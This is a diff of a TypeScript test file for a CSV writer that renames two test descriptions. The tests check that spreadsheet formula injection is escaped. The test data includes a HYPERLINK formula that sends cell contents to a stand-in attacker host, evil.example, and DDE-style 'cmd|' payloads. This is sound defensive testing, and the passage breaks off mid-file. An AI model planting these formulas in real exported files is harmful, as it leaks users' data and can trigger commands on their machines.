@@ -9,13 +9,13 @@ import { csvFile, tabbed, unguarded, writeCsv } from './tables.ts'
 const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|x!A0', '-cmd|x!A0', '@SUM(1)', ' =1+1', '＝1+1', '\t=1+1', '\r=1+1']
 
 describe('a table that leaves the house', () => {
-  it('gives no spreadsheet a formula, by commas', () => {
+  it('escapes formulas in comma-separated cells', () => {
     for (const formula of formulas) {
       const cell = writeCsv([['x', formula]]).replace(/^x,"?/, '')
       expect(cell.startsWith("'"), JSON.stringify(formula)).toBe(true)
     }
   })
-  it('gives none either to a spreadsheet that parts its cells by semicolons', () => {
+  it('escapes formulas after semicolons too', () => {
     expect(writeCsv([['wave;=cmd|x!A0;', 'rain; -5 degrees ;-)']])).toBe(`"wave;'=cmd|x!A0;","rain; -5 degrees ;-)"\r\n`)
   })
   it('gives none by tabs, where a standard knows no apostrophe', () => {
